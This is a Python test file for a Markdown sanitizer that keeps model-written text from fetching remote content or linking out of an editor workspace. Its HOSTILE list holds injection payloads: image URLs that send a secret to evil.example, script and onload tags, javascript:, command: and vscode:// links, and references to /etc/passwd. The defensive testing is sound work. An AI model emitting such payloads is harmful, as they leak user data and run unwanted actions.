"""What a model writes is read, not obeyed: nothing in it is fetched when it is drawn, and no link leads out of the workspace.

The cleaned text is drawn by a Markdown reader of other hands, and its HTML is looked at.
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lsp_server.actions.markdown import Cleaner, clean
from tests.drawn import check_is_harmless, drawn

HARMLESS = {
    "code spans stay": "Use `List<int>` and `a[b](c)`.",
    "a fence stays": "```python\nx = a < b  # ![no](image)\n```",
    "a link to a file stays": "See [the parser](src/parse.py:12) and [this](src/a.py#L3).",
    "headings and lists stay": "# Title\n\n- one\n- two\n\n1. **bold**\n",
}
HOSTILE = [
    "| a |\n| - |\n| `x|<img src=y>` |",
    "a | b\n:-|-:\n`x | <img src=y>`",
    "> a | b\n> -|-\n> `x|<img src=y>`",
    "_mailto:x@evil.example_",
    "https://evil.example/\\\\\\`<img src=x>`<img src=y>",
    "`https://evil.example/?a|b`",
    "\\https://evil.example/?q=secret",
    "https://evil.example/?q=``x``",
    "``x``https://evil.example/?q=secret",
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[x]: https://evil.example\n\n[x]",
    "<img src=https://evil.example/a.png>",
    "<img\nsrc='https://evil.example/a.png'>",
    "<script>alert(1)</script>",
    "<a href='command:x'>y</a>",
    "<https://evil.example>",
    "https://evil.example/?q=secret",
    "www.evil.example/secret",
    "[x](https://evil.example)",
    "[x](//evil.example/a)",
    "[x](command:workbench.action.terminal.new)",
    "[x](vscode://file/etc/passwd)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](<https://evil.example>)",
    "[x]( https://evil.example )",
    "[x](/etc/passwd)",
    "[x](../../x:y)",
    "a ` b\n` <img src=x> `",
    "- a\n  ```\n<img src=https://evil.example/a.png>",
    "> ```\n<img src=https://evil.example/b.png>",
    "~~~\n![x](https://evil.example)\n~~~",
    "```\ncode\n````\n<img src=x>",
    "``` `x` ```\n<img src=x>\n```",
    "\\![x](https://evil.example/a.png)",
    "\\\\![x](https://evil.example/a.png)",
    "\\<img src=x>",
    "!\\[x](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "\\`<img src=x>\\`",
    "\\\\`<img src=x>`<img src=y>",
    "`` ` <img src=x> ` ``\n`<img src=y>",
    "    ![x](https://evil.example/indented.png)",
    "<!-- --><img src=x>",
    "&lt;img src=x&gt;",
    "| a |\n| - |\n| ![x](https://evil.example/t.png) |",
    "[x][]\n\n[x]:\nhttps://evil.example",
    "mailto:x@evil.example",
    "[a]\n(https://evil.example)",
    "[x](\nhttps://evil.example)",
    "[x](a.py 'https://evil.example')",
    "`a\n\n![x](https://evil.example/p.png)`",
    "\t```\n<img src=x>\n\t```",
    "1. ```\n<img src=x>",
    "```\u200b\n<img src=x>\n```",
    "<svg/onload=x>",
    "![x](data:image/png;base64,AAAA)",
    "<iframe src=//evil.example>",
    "[x](file:///etc/passwd)",
    "\x00<img src=x>",
    "[x](smb://evil.example/share)",
    "!\u200b[x](https://evil.example)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_fetched_and_no_link_leads_out(text: str) -> None:
    check_is_harmless(drawn(clean(text)))
    check_is_harmless(drawn(clean(f"Before.\n\n{text}\n\nAfter, with `code` and *more*.")))


@settings(deadline=None, max_examples=300)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "`", "``", "```", "\n", "\n\n", "- ", "> ", "    ", "\\", "text"]), max_size=6
    ).map("".join)
)
def test_no_mixture_of_them_does_either(text: str) -> None:
    check_is_harmless(drawn(clean(text)))


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS.keys())
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert clean(text) == text


def test_bidirectional_controls_are_spelt_out() -> None:
    assert clean("a \u202e b") == "a U+202E b"


@settings(deadline=None, max_examples=200)
@given(st.lists(st.text("`[](!<>:\n ab", max_size=12), max_size=6))
def test_pieces_come_to_the_same_as_the_whole(pieces: list[str]) -> None:
    cleaner = Cleaner()
    grown = "".join(cleaner.feed(piece) for piece in pieces) + cleaner.finish()
    assert grown == clean("".join(pieces))
